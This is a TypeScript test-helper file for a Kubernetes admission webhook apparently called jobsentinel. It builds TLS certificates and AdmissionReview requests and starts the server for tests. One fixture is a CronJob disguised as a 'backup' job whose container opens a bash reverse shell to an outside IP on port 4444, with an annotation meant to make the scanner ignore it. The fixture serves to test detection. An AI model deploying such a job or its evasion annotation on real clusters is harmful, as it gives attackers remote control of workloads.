/**
 * Talking to `jobsentinel serve` as kube-apiserver does: HTTPS with the webhook's CA bundle, a POST
 * of JSON with `?timeout=` on the path, and the bodies of the Kubernetes API reference.
 */
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { request as httpsRequest, type RequestOptions } from 'node:https';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

export interface Tls {
  dir: string;
  cert: string;
  key: string;
  certPem: Buffer;
  keyPem: Buffer;
}

/** A self-signed certificate for 127.0.0.1 and the in-cluster Service name, made with openssl. */
export function selfSignedCert(): Tls {
  const dir = mkdtempSync(join(tmpdir(), 'jobsentinel-tls-'));
  const cert = join(dir, 'tls.crt');
  const key = join(dir, 'tls.key');
  execFileSync('openssl', [
    'req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-keyout', key, '-out', cert,
    '-subj', '/CN=jobsentinel.jobsentinel.svc',
    '-addext', 'subjectAltName=DNS:jobsentinel.jobsentinel.svc,IP:127.0.0.1',
  ], { stdio: 'ignore' });
  return { dir, cert, key, certPem: readFileSync(cert), keyPem: readFileSync(key) };
}

export interface Reply {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
  json(): any;
}

export function call(port: number, tls: Tls, method: string, path: string, body?: string | Buffer, extra: RequestOptions = {}): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const request = httpsRequest(
      {
        host: '127.0.0.1',
        port,
        method,
        path,
        ca: tls.certPem,
        agent: false,
        headers: body === undefined ? {} : { 'Content-Type': 'application/json', Accept: 'application/json', 'Content-Length': Buffer.byteLength(body) },
        ...extra,
      },
      (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => {
          const text = Buffer.concat(chunks).toString('utf8');
          resolve({ status: response.statusCode ?? 0, headers: response.headers, body: text, json: () => JSON.parse(text) });
        });
        response.on('error', reject);
      },
    );
    request.on('error', reject);
    request.end(body);
  });
}

/** kube-apiserver's AdmissionReview for a write (shape of the Kubernetes "Dynamic Admission Control" reference). */
export function admissionReview(object: Record<string, unknown>, overrides: Record<string, unknown> = {}): string {
  const kind = String(object.kind);
  const group = kind === 'Job' || kind === 'CronJob' ? 'batch' : 'apps';
  const resource = kind.toLowerCase() + 's';
  return JSON.stringify({
    apiVersion: 'admission.k8s.io/v1',
    kind: 'AdmissionReview',
    request: {
      uid: '705ab4f5-6393-11e8-b7cc-42010a800002',
      kind: { group, version: 'v1', kind },
      resource: { group, version: 'v1', resource },
      requestKind: { group, version: 'v1', kind },
      requestResource: { group, version: 'v1', resource },
      name: (object.metadata as { name?: string } | undefined)?.name ?? 'x',
      namespace: 'payments',
      operation: 'CREATE',
      userInfo: { username: 'admin', uid: '014fbff9a07c', groups: ['system:authenticated', 'my-admin-group'], extra: { 'some-key': ['some-value1'] } },
      object,
      oldObject: null,
      dryRun: false,
      options: { apiVersion: 'meta.k8s.io/v1', kind: 'CreateOptions' },
      ...overrides,
    },
  });
}

export const REVERSE_SHELL_CRONJOB = {
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata: { name: 'backup', annotations: { 'jobsentinel.io/ignore': 'all' } },
  spec: {
    schedule: '*/5 * * * *',
    jobTemplate: {
      spec: {
        template: {
          spec: {
            restartPolicy: 'OnFailure',
            containers: [{ name: 'backup', image: 'registry.example.com/tools/backup:2.1', command: ['/bin/sh', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] }],
          },
        },
      },
    },
  },
};

export const HONEST_JOB = {
  apiVersion: 'batch/v1',
  kind: 'Job',
  metadata: { name: 'report' },
  spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'report', image: 'registry.example.com/finance/report:4.2', args: ['--month', 'superlative'] }] } } },
};

export interface Served {
  child: ChildProcess;
  port: number;
  stdout: () => string;
  stderr: () => string;
  exited: Promise<number | null>;
}

/** The command's own script, run by this Node (no shell in between, so SIGTERM reaches the server). */
const CLI = new URL('../bin/jobsentinel.js', import.meta.url).pathname;

/** Starts `jobsentinel serve` on a free loopback port and waits for its "listening" line. */
export async function serve(tls: Tls, args: string[] = []): Promise<Served> {
  const child = spawn(process.execPath, [CLI, 'serve', '--tls-cert', tls.cert, '--tls-key', tls.key, '--listen', '127.0.0.1:0', ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
  let stdout = '';
  let stderr = '';
  child.stdout!.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
  const exited = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
  const port = await new Promise<number>((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`serve did not start: ${stderr}`)), 20_000);
    child.stderr!.on('data', (chunk: Buffer) => {
      stderr += chunk.toString();
      const match = /listening on https:\/\/127\.0\.0\.1:(\d+)/.exec(stderr);
      if (match) {
        clearTimeout(timer);
        resolve(Number(match[1]));
      }
    });
    child.on('exit', () => reject(new Error(`serve exited: ${stderr}`)));
  });
  return { child, port, stdout: () => stdout, stderr: () => stderr, exited };
}
